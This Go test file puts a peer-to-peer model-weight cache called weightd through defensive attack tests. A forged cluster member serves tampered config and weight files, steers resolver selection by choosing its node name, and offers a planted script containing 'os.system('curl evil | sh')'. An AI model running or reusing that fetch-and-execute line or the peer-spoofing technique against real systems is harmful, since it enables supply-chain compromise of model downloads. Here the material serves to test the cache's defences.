package adversary

// Attack 5, trusting one peer for the cluster: a member answers other nodes'
// resolutions with a file list of its own. The victims are real weightd
// agents (the binary, as a DaemonSet runs it); the liar is a member built
// from pkg/p2p on the same gossip, with its own chunk server, holding the
// bytes it wants laid out.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"

	"github.com/weightd/weightd/internal/hubtest"
	"github.com/weightd/weightd/pkg/cache"
	"github.com/weightd/weightd/pkg/content"
	"github.com/weightd/weightd/pkg/p2p"
	"github.com/weightd/weightd/pkg/prefetch"
)

var (
	weightdOnce sync.Once
	weightdBin  string
	weightdErr  error
)

// weightdBinary builds cmd/weightd once per test binary, into one path per
// user that each run overwrites.
func weightdBinary(t *testing.T) string {
	t.Helper()
	weightdOnce.Do(func() {
		dir := filepath.Join(os.TempDir(), fmt.Sprintf("weightd-adversary-%d", os.Getuid()))
		if weightdErr = os.MkdirAll(dir, 0o755); weightdErr != nil {
			return
		}
		weightdBin = filepath.Join(dir, "weightd")
		out, err := exec.Command("go", "build", "-o", weightdBin, "github.com/weightd/weightd/cmd/weightd").CombinedOutput()
		if err != nil {
			weightdErr = fmt.Errorf("building weightd: %v\n%s", err, out)
		}
	})
	require.NoError(t, weightdErr)
	return weightdBin
}

// startPeerAgent runs `weightd agent` named name on loopback gossip,
// joining through join, resolving hf:// references on hub, and waits until
// it is ready.
func startPeerAgent(t *testing.T, name, join, hub string) *agentProc {
	t.Helper()
	// The liar is a member in its own right: whether peers talk TLS does
	// not change what it may answer.
	a := startAgentProc(t, nil, []string{"HF_TOKEN=", "WEIGHTD_PEER_INSECURE=true"},
		"--log-level", "debug", "--chunk-size", "1MiB", "--fast-gossip", "--node-name", name,
		"--gossip-addr", freeAddr(t), "--chunk-addr", freeAddr(t), "--join", join, "--hf-endpoint", hub)
	a.waitReady(t)
	return a
}

// waitPeers waits until the agent sees n peers.
func (a *agentProc) waitPeers(t *testing.T, n int) {
	t.Helper()
	require.Eventually(t, func() bool {
		st, err := a.client.Status(t.Context())
		return err == nil && len(st.Peers) == n
	}, 30*time.Second, 50*time.Millisecond, "the agent never saw %d peers", n)
}

// liar is a member of the cluster that answers resolutions with what it
// chooses and holds the blobs its answers name.
type liar struct {
	name       string
	gossipAddr string
	reg        *prometheus.Registry
}

// startLiar joins a member named name that answers the resolution of each
// reference in lies with its model, and holds and announces blobs.
func startLiar(t *testing.T, name string, lies map[string]content.Model, blobs [][]byte) *liar {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	store := openStore(t, 1<<20)
	for _, b := range blobs {
		_, err := store.Fetch(ctx, content.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}, cache.Bytes(b), nil)
		require.NoError(t, err)
	}
	res := p2p.NewResolutions(16)
	for ref, m := range lies {
		res.Put(ref, m)
	}
	ln, err := p2p.ListenChunks(ctx, "127.0.0.1:0", "", nil)
	require.NoError(t, err)
	gossip := freeAddr(t)
	_, portStr, _ := net.SplitHostPort(gossip)
	var port int
	fmt.Sscan(portStr, &port)
	router := p2p.NewRouter(0)
	ms, err := p2p.NewMembership(p2p.MembershipConfig{
		NodeName: name, BindAddr: "127.0.0.1", BindPort: port, Fast: true,
		Meta: p2p.NodeMeta{ChunkAddr: ln.Addr().String()},
	}, router)
	require.NoError(t, err)
	sw, err := p2p.NewSwarm(p2p.NewDirectory(ms, router), nil, p2p.SwarmConfig{}, slog.New(slog.DiscardHandler), nil)
	require.NoError(t, err)
	reg := prometheus.NewRegistry()
	srv, err := p2p.NewChunkServer(store, reg, p2p.WithSwarm(sw), p2p.WithResolutions(res))
	require.NoError(t, err)
	var wg sync.WaitGroup
	wg.Go(func() { srv.Run(ctx, ln) })
	wg.Go(func() { ms.Run(ctx) })
	t.Cleanup(func() { cancel(); wg.Wait() })
	select {
	case <-ms.Ready():
	case <-time.After(10 * time.Second):
		t.Fatal("the liar's gossip never came up")
	}
	for _, b := range blobs {
		require.NoError(t, ms.Announce(p2p.EventComplete, digest.FromBytes(b)))
	}
	return &liar{name: name, gossipAddr: gossip, reg: reg}
}

// resolutionsServed counts the resolutions the liar answered.
func (l *liar) resolutionsServed(t *testing.T) float64 {
	t.Helper()
	mfs, err := l.reg.Gather()
	require.NoError(t, err)
	for _, mf := range mfs {
		if mf.GetName() != "weightd_p2p_server_requests_total" {
			continue
		}
		for _, m := range mf.GetMetric() {
			var route, code string
			for _, lp := range m.GetLabel() {
				switch lp.GetName() {
				case "route":
					route = lp.GetValue()
				case "code":
					code = lp.GetValue()
				}
			}
			if route == "resolution" && code == "200" {
				return m.GetCounter().GetValue()
			}
		}
	}
	return 0
}

// resolverName is a member name that puts its holder first in the
// rendezvous order of every reference in refs, against the members others:
// the attacker reads the hashing from the source and picks its node name.
func resolverName(refs []string, others ...string) string {
	for i := 0; ; i++ {
		name := fmt.Sprintf("resolver-%d", i)
		first := true
		for _, ref := range refs {
			first = first && p2p.ResolverOrder(ref, append([]string{name}, others...))[0] == name
		}
		if first {
			return name
		}
	}
}

// honestModel is a model on the hub: a config stored in git, weights
// stored with LFS.
var honestModel = map[string]string{
	"config.json":       `{"architectures": ["HonestForCausalLM"], "hidden_size": 1024}` + "\n",
	"model.safetensors": strings.Repeat("honest weights. ", 1<<14),
}

// paddedLike is evil padded with spaces to the size of honest, so that the
// lie keeps every size the hub's listing gives.
func paddedLike(evil, honest string) string {
	if len(evil) > len(honest) {
		panic("evil content longer than the honest one")
	}
	return evil + strings.Repeat(" ", len(honest)-len(evil))
}

// hubWithModel starts a hub serving honestModel as repo; it returns the hub
// and the commit main names.
func hubWithModel(t *testing.T, repo string) (*hubtest.Hub, string) {
	t.Helper()
	hub := hubtest.New()
	t.Cleanup(hub.Close)
	return hub, addModel(hub, repo)
}

// addModel adds honestModel as repo and returns the commit main names.
func addModel(hub *hubtest.Hub, repo string) string {
	files := make(map[string]hubtest.Content)
	for p, c := range honestModel {
		files[p] = hubtest.String(c)
	}
	files["model.safetensors"] = hubtest.As(hubtest.LFS, files["model.safetensors"])
	return hub.AddRepo(repo, files).Resolve("main")
}

// lieAbout is the model the liar gives for repo at commit: the hub's files,
// with content replaced where replace says, and extra files added.
func lieAbout(repo, commit string, replace, extra map[string]string) (content.Model, [][]byte) {
	m := content.Model{Name: repo, Revision: commit}
	var blobs [][]byte
	add := func(p, body string) {
		b := []byte(body)
		m.Files = append(m.Files, content.File{Path: p, Descriptor: content.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}})
		blobs = append(blobs, b)
	}
	for p, c := range honestModel {
		if r, ok := replace[p]; ok {
			c = r
		}
		add(p, c)
	}
	for p, c := range extra {
		add(p, c)
	}
	return m, blobs
}

// checkHonestLayout checks that dir holds the hub's files and nothing else.
func checkHonestLayout(t *testing.T, dir string) {
	t.Helper()
	var got []string
	require.NoError(t, filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		got = append(got, rel)
		return nil
	}))
	want := make([]string, 0, len(honestModel))
	for p := range honestModel {
		want = append(want, p)
	}
	require.ElementsMatch(t, want, got, "the files laid out in %s are not the hub's", dir)
	for p, c := range honestModel {
		b, err := os.ReadFile(filepath.Join(dir, p))
		require.NoError(t, err)
		require.Equal(t, digest.FromString(c), digest.FromBytes(b), "%s laid out with the liar's bytes, not the hub's: %.60q", p, b)
	}
}

// TestPeerResolutionTrusted: the member that resolves a pinned reference
// for the cluster answers with a file list of its own for the right name
// and commit, and holds the bytes it names. The agent must lay out the
// hub's files: once with a config of the same size (every size the hub
// lists still matches, only the digest of a file git stores differs), once
// with weights of its own and an extra modeling file.
func TestPeerResolutionTrusted(t *testing.T) {
	hub, commit := hubWithModel(t, "org/model")
	otherCommit := addModel(hub, "org/other")

	sameSize, sameSizeBlobs := lieAbout("org/model", commit,
		map[string]string{"config.json": paddedLike(`{"architectures": ["Evil"], "auto_map": {}}`, honestModel["config.json"])}, nil)
	extra, extraBlobs := lieAbout("org/other", otherCommit,
		map[string]string{"model.safetensors": strings.Repeat("evil weights!!! ", 1<<14)},
		map[string]string{"modeling_evil.py": "import os; os.system('curl evil | sh')\n"})
	refs := []string{"hf://org/model@" + commit, "hf://org/other@" + otherCommit}
	l := startLiar(t, resolverName(refs, "victim"), map[string]content.Model{refs[0]: sameSize, refs[1]: extra},
		append(sameSizeBlobs, extraBlobs...))

	victim := startPeerAgent(t, "victim", l.gossipAddr, hub.URL)
	victim.waitPeers(t, 1)
	for _, ref := range []string{"hf://org/model@main", "hf://org/other@main"} {
		st := victim.fetch(t, ref)
		require.Equalf(t, prefetch.StateReady, st.State, "%s: %s", ref, st.Error)
		checkHonestLayout(t, st.Dir)
	}
	require.Positive(t, l.resolutionsServed(t), "the liar was never asked: the test did not make it the resolver")
}

// TestPeerResolutionOriginDown: the origin cannot be reached, and a member
// answers how a reference resolved with a file list of its own, holding the
// bytes it names. Neither a hub model nor a file pinned by digest may be
// laid out from it: the hub's listing is the hub's word, and a digest pins
// one file, not the files beside it. The member's honest answer for a file
// pinned by digest is still taken: that much can be checked without the
// origin.
func TestPeerResolutionOriginDown(t *testing.T) {
	const repo = "org/model"
	commit := strings.Repeat("c0ffee", 6) + "c0ff"
	hfLie, hfBlobs := lieAbout(repo, commit, map[string]string{"config.json": `{"architectures": ["Evil"]}`}, nil)

	adapter := []byte("honest adapter bytes")
	script := []byte("import os; os.system('curl evil | sh')\n")
	lie, lieRef := pinnedFile("https://weights.invalid/files/adapter.bin", adapter)
	lie.Files = append(lie.Files, content.File{Path: "run.py", Descriptor: content.Descriptor{Digest: digest.FromBytes(script), Size: int64(len(script))}})
	weights := []byte("honest pinned weights")
	honest, honestRef := pinnedFile("https://weights.invalid/files/weights.bin", weights)
	l := startLiar(t, "liar", map[string]content.Model{"hf://" + repo + "@main": hfLie, lieRef: lie, honestRef: honest},
		append(hfBlobs, adapter, script, weights))

	victim := startPeerAgent(t, "victim", l.gossipAddr, "https://hub.invalid")
	victim.waitPeers(t, 1)
	for _, ref := range []string{"hf://" + repo + "@main", lieRef} {
		st := victim.fetch(t, ref)
		if st.State != prefetch.StateFailed {
			t.Errorf("%s was laid out from the liar's file list in %s", ref, st.Dir)
			continue
		}
		t.Logf("%s: %s", ref, st.Error)
	}
	st := victim.fetch(t, honestRef)
	require.Equal(t, prefetch.StateReady, st.State, "a peer's answer for a file pinned by digest: %s", st.Error)
	b, err := os.ReadFile(filepath.Join(st.Dir, "weights.bin"))
	require.NoError(t, err)
	require.Equal(t, weights, b)
}

// pinnedFile is the model an agent makes of url pinned to body's digest
// (pkg/prefetch source.SingleFileModel and urlModelName, read from the source), and
// that reference.
func pinnedFile(url string, body []byte) (content.Model, string) {
	d := digest.FromBytes(body)
	sum := sha256.Sum256([]byte(url))
	host, file, _ := strings.Cut(strings.TrimPrefix(url, "https://"), "/")
	return content.Model{
		Name:     host + "/" + strings.ReplaceAll(file, "/", "-") + "/" + hex.EncodeToString(sum[:8]),
		Revision: d.Encoded()[:12],
		Files:    []content.File{{Path: filepath.Base(file), Descriptor: content.Descriptor{Digest: d, Size: int64(len(body))}}},
	}, url + "#" + d.String()
}

// TestRendezvousResolverCannotSteer: a member names itself so that it is
// first in the rendezvous order of a model, and so resolves it for every
// node; it answers each with weights of its own, of the hub's size. Every
// node must lay out the hub's files: the resolver can withhold or delay its
// answer, not change what the nodes lay out.
func TestRendezvousResolverCannotSteer(t *testing.T) {
	hub, commit := hubWithModel(t, "org/model")
	lie, blobs := lieAbout("org/model", commit,
		map[string]string{"model.safetensors": strings.Repeat("evil weights!!! ", 1<<14)}, nil)
	ref := "hf://org/model@" + commit
	l := startLiar(t, resolverName([]string{ref}, "victim-a", "victim-b"), map[string]content.Model{ref: lie}, blobs)

	a := startPeerAgent(t, "victim-a", l.gossipAddr, hub.URL)
	b := startPeerAgent(t, "victim-b", l.gossipAddr, hub.URL)
	a.waitPeers(t, 2)
	b.waitPeers(t, 2)
	for _, v := range []*agentProc{a, b} {
		st := v.fetch(t, "hf://org/model@main")
		require.Equal(t, prefetch.StateReady, st.State, st.Error)
		checkHonestLayout(t, st.Dir)
	}
	require.GreaterOrEqual(t, l.resolutionsServed(t), 2.0, "both nodes asked the member that named itself the resolver")
}
